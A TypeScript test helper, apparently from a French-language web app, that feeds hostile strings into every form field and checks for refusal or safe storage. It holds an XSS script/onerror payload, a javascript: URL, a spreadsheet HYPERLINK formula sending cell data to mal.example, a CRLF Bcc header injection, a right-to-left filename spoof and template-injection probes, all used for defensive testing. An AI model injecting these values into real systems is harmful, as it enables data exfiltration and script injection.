import { expect } from "vitest";
import { propertyRuns } from "../setup/property-runs.ts";

/** The texts that anybody may type or paste into any field, with their names. */
const ALL: readonly (readonly [name: string, text: string])[] = [
  ["markup", `Awa </script></title>]]><script>globalThis.odd=1</script><img src=x onerror="odd=1"> & "Koné" '`],
  ["half of a character", "Awa \ud83d Koné"],
  ["control characters", "Awa\u0001\u0007\u001b[31m\u007f\u0085 Koné"],
  ["a formula", `=HYPERLINK("https://mal.example/?"&A1;"Cliquez")`],
  ["10,000 characters", "é".repeat(10_000)],
  ["line breaks", "Awa\r\nBcc: autre@mal.example\r\n\r\nKoné"],
  ["nothing that is seen", "\u200b\u2060\u00ad"],
  ["10,000 words", "Awa ".repeat(10_000)],
  ["emoji", "Awa 👨‍👩‍👧‍👦 🇨🇮 ✊🏾 🎒"],
  ["Arabic", "مرحبا بكم في كوت ديفوار ١٢٣"],
  ["a mark that turns the reading", "Awa \u202exslx.tropper\u202c Koné"],
  ["a formula by a sign", "+225*2"],
  ["an address", "javascript:globalThis.odd=1"],
  ["a NUL", "Awa\0Koné"],
  ["a template", "{{7*7}} %s %00 {0} \\u0041"],
];

/** The first of them on each push, all in full runs. */
export const ODD_TEXTS = ALL.slice(0, propertyRuns({ quick: 7, full: ALL.length }));

type Json = string | number | boolean | null | undefined | readonly Json[] | { readonly [key: string]: Json };

/** A way into a body: the names and places that lead to one text. */
export type TextPath = readonly (string | number)[];

/** Returns the ways to all texts in a body. */
export function textsIn(body: unknown): TextPath[] {
  if (typeof body === "string") return [[]];
  if (body === null || typeof body !== "object") return [];
  const entries: [string | number, unknown][] = Array.isArray(body) ? [...body.entries()] : Object.entries(body);
  return entries.flatMap(([key, value]) => textsIn(value).map((path) => [key, ...path]));
}

/** Returns the body with this text at the end of this way. */
export function withText<Body>(body: Body, [key, ...rest]: TextPath, text: string): Body {
  if (key === undefined) return text as Body;
  const copy = (Array.isArray(body) ? [...body] : { ...body }) as Record<string | number, Json>;
  copy[key] = withText(copy[key], rest, text);
  return copy as Body;
}

/** Returns the text at the end of this way. */
export function textAt(body: unknown, path: TextPath): unknown {
  return path.reduce<unknown>((at, key) => (at as Record<string | number, unknown>)[key], body);
}

/** The refusal is one of the form, in French, at the field that holds the text. */
export async function expectRefusedAt(refused: Response, path: TextPath): Promise<void> {
  const { errors } = await refused.json();
  expect([path, refused.status]).toEqual([path, 422]);
  const texts: string[] = errors[String(path[0])] ?? [];
  expect([path, texts[0]]).toEqual([path, expect.stringMatching(/^\p{Lu}.*\.$/su)]);
  expect(texts[0]).not.toMatch(/invalid|expected|must|string|too big/i);
}

/** Asserts that the stored text is readable, and as typed but for what no one sees; null if that is nothing. */
export function expectSameWords(stored: unknown, typed: string): void {
  const seen = (text: string) => text.replace(/[\p{C}\p{Z}\s]+/gu, "").normalize("NFC");
  expect(seen(String(stored ?? ""))).toBe(seen(typed));
}

/** Nothing that was typed is markup here, and no character breaks the document. */
export function expectHarmless(document: string): void {
  expect(document).not.toMatch(/<script>globalThis|<img src=x|href="javascript:/i);
  // biome-ignore lint/suspicious/noControlCharactersInRegex: they are what is looked for.
  expect(document).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f]/);
}
